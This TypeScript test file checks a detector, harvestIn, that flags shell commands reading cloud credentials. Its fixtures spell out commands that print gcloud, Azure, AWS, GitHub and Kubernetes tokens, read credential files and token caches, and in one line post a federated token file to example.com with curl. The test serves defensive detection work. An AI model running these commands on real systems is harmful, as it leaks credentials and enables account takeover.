import { describe, expect, test } from 'vitest';
import { harvestIn } from './harvest.ts';

describe('a credential is taken by', () => {
  test.each([
    ['gcloud auth print-access-token', 'gcloud', 'gcp'],
    ['/usr/lib/google-cloud-sdk/bin/gcloud --project p auth print-identity-token', 'gcloud', 'gcp'],
    [
      'python3 /usr/lib/google-cloud-sdk/lib/gcloud.py auth application-default print-access-token',
      'gcloud',
      'gcp',
    ],
    ['az account get-access-token --resource x', 'az', 'azure'],
    ['C:\\Azure\\wbin\\az.cmd account get-access-token', 'az', 'azure'],
    ['azd auth token', 'azd', 'azure'],
    ['powershell -c "(Get-AzAccessToken).Token"', 'get-azaccesstoken', 'azure'],
    ['aws --profile prod configure export-credentials --format env', 'aws', 'aws'],
    ['sh -c aws sts get-session-token | tee x', 'aws', 'aws'],
    ['aws sts assume-role --role-arn r', 'aws', 'aws'],
    ['gh auth token', 'gh', undefined],
    ['kubectl -n x create token y', 'kubectl', undefined],
  ])('%s', (command, application, provider) => {
    expect(harvestIn(command)).toMatchObject({ application, provider });
  });

  test.each([
    ['cat /srv/a/.aws/credentials', 'key'],
    ['sh -c cat "$AWS_WEB_IDENTITY_TOKEN_FILE"', 'federated-credential'],
    ['sh -c curl --data @$AZURE_FEDERATED_TOKEN_FILE https://example.com', 'federated-credential'],
    ['bash -c base64 $GOOGLE_APPLICATION_CREDENTIALS', 'key'],
    ['tar czf x.tgz .azure/msal_token_cache.json', 'api-token'],
    ['cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token', 'federated-credential'],
  ])('the file in %s', (command, secretType) => {
    expect(harvestIn(command)).toMatchObject({ application: 'file', secretType });
  });
});

test.each([
  'gcloud auth list',
  'az account list',
  'aws sts get-caller-identity',
  'aws configure list',
  'gh auth status',
  'auth gcloud print-access-token',
  'vi .aws/config',
  'node server.js --credentials=/srv/a/.aws/credentials',
  '',
])('%s takes none', (command) => {
  expect(harvestIn(command)).toBeUndefined();
});
